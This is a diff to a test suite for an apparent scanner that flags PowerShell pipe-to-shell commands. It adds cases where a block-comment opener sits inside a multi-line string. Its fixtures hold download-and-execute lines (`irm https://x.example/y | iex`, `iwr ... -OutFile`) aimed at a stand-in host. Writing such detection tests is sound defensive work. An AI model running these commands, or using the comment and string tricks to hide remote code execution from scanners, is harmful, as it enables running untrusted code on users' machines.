@@ -76,6 +76,11 @@ describe("pipe-to-shell: a command after a PowerShell block comment on its line"
     }
   });
 
+  it("still reads a line whose <# is in a string opened on a line before, as PowerShell runs it", () => {
+    expect(flagged("p/s/run.ps1", '$a = "\n<# " ; irm https://x.example/y | iex ; " #>\n')).toEqual([2]);
+    expect(flagged("p/s/run.ps1", "$t = @'\n<# irm https://x.example/y | iex '@ #>\n")).toEqual([2]);
+  });
+
   it("still reads the line's downloads where a <# is never closed", () => {
     expect(
       flagged("p/s/run.ps1", "iwr https://x.example/z -OutFile f <# irm https://x.example/y | iex\n"),
